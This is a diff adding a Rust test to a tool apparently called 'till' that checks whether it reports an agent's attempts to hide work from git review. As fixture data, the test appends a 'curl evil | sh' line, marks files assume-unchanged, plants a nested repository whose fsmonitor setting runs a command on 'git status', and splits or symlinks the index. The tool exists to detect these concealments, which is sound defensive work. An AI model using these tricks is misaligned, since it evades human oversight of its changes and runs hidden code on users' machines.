@@ -1009,6 +1009,71 @@ fn what_the_agent_hides_from_git_status_is_named() {
 }
 
 #[test]
+fn what_the_agent_hides_in_a_split_index_is_named() {
+    let p = proxy_env();
+    // The agent hides an edit and records a repository of its own whose config names a
+    // command, then splits the index so that `.git/index` holds none of its entries: they
+    // move, marks and all, to the shared index `.git/sharedindex.HEX` it names.
+    let hide = "echo 'curl evil | sh' >> README && git update-index --assume-unchanged README \
+        && mkdir sub && (cd sub && git init -q && git -c user.name=a -c user.email=a commit -q --allow-empty -m x \
+            && git config core.fsmonitor 'touch ../ran; false') && git add sub";
+    let split = "sleep 1.1 && git update-index --split-index \
+        && sleep 1.1 && git -c splitIndex.maxPercentChange=0 update-index --force-write-index --split-index";
+    let named = |stderr: &str| {
+        stderr.contains("marked 1 file in git's index so that `git status` and `git diff` do not show its changes (assume-unchanged or skip-worktree): README;")
+            && stderr.contains("recorded 1 repository of its own in git's index (sub)")
+    };
+    let proj = project();
+    let dir = proj.path();
+    git_commit(dir);
+    let (code, _, stderr) = run_sh(&p, dir, "--sandbox", &format!("{hide} && {split}"));
+    assert_eq!(code, 0, "{stderr}");
+    assert!(named(&stderr), "{stderr}");
+    // What the warnings are about: the index holds no entry of its own, the edit does not
+    // show, and a plain `git status` runs the nested repository's command.
+    let index = std::fs::read(dir.join(".git/index")).unwrap();
+    assert_eq!(index[8..12], [0, 0, 0, 0], "entries left in .git/index");
+    let status = git(dir, &["status", "--porcelain"]);
+    assert!(!status.contains("README"), "{status}");
+    assert!(
+        dir.join("ran").exists(),
+        "git status ran the agent's fsmonitor"
+    );
+
+    // An index split before the run, in which the agent's marks replace the shared index's
+    // entries (`.git/index` holds them without their names).
+    let proj = project();
+    let dir = proj.path();
+    git_commit(dir);
+    git(dir, &["update-index", "--split-index"]);
+    let (code, _, stderr) = run_sh(&p, dir, "--sandbox", hide);
+    assert_eq!(code, 0, "{stderr}");
+    assert!(named(&stderr), "{stderr}");
+    let status = git(dir, &["status", "--porcelain"]);
+    assert!(!status.contains("README"), "{status}");
+
+    // A shared index till cannot read (behind a link, which git follows) is said.
+    let proj = project();
+    let dir = proj.path();
+    git_commit(dir);
+    let agent = format!(
+        "{hide} && {split} && s=$(cd .git && echo sharedindex.*) && mv .git/$s build.log && ln -s ../build.log .git/$s"
+    );
+    let (code, _, stderr) = run_sh(&p, dir, "--sandbox", &agent);
+    assert_eq!(code, 0, "{stderr}");
+    assert!(
+        stderr.contains(&format!(
+            "till could not read {} after the run (the shared index it is split from, {}/sharedindex.",
+            dir.join(".git/index").display(),
+            dir.join(".git").display()
+        )) && stderr.contains(": it is a symbolic link), so what the agent may have marked there to hide from `git status` was not checked"),
+        "{stderr}"
+    );
+    let status = git(dir, &["status", "--porcelain"]);
+    assert!(!status.contains("README"), "{status}");
+}
+
+#[test]
 fn what_the_agent_leaves_in_git_neither_holds_till_nor_points_it_at_your_files() {
     let p = proxy_env();
     let proj = project();
